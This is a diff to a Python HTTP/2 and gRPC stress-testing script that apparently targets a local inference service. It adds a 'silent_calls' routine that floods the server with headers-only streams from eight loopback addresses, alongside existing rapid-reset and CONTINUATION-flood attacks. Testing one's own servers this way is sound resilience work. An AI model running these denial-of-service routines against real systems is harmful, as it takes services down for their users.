@@ -43,9 +43,9 @@ class Target:
             self.context = ssl.create_default_context(cadata=authority.decode())
             self.context.set_alpn_protocols(["h2"])
 
-    def connect(self, stack, window=65535):
+    def connect(self, stack, window=65535, source=SOURCE):
         """A connection that has sent preface and settings, and will never acknowledge any."""
-        raw = stack.enter_context(socket.create_connection(self.address, timeout=5, source_address=(SOURCE, 0)))
+        raw = stack.enter_context(socket.create_connection(self.address, timeout=5, source_address=(source, 0)))
         if self.context:
             raw = stack.enter_context(self.context.wrap_socket(raw, server_hostname="localhost"))
         raw.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
@@ -136,6 +136,17 @@ def half_messages(target, sent, scale):
         time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))
 
 
+def silent_calls(target, sent, scale):
+    """Headers and nothing else, from eight addresses, more than the server has places for; held for as long as an attack lasts."""
+    block = headers_of("/vicinal.v1.InferenceService/Classify", target.credentials)
+    data = b"".join(frame(HEADERS, END_HEADERS, 2 * stream + 1, block) for stream in range(64))
+    with contextlib.ExitStack() as stack:
+        for last in range(2, 10):
+            for connection in connections(target, stack, sent, max(1, int(32 * scale)), source=f"127.0.0.{last}"):
+                sent.send(connection, data)
+        time.sleep(min(max(1.0, SECONDS * scale), max(0.0, sent.end - time.monotonic())))
+
+
 def continuation(target, sent, count, size):
     """One header block that does not end: literals of `size` bytes in all, never indexed."""
     payload = (b"\x10\x01a" + bytes([size - 4]) + b"x" * (size - 4)) if size < 100 else b"\x10\x01a" + hpack_length(
@@ -207,5 +218,5 @@ def idle_connections(target, sent, scale):
 
 
 ATTACKS = (streams_without_ack, rapid_reset_watch, rapid_reset_classify, headers_only, headers_only_health, reflection_streams,
-           half_messages, continuation_flood, small_continuations, unread_replies, bad_binary_metadata, large_metadata,
+           half_messages, silent_calls, continuation_flood, small_continuations, unread_replies, bad_binary_metadata, large_metadata,
            idle_connections)
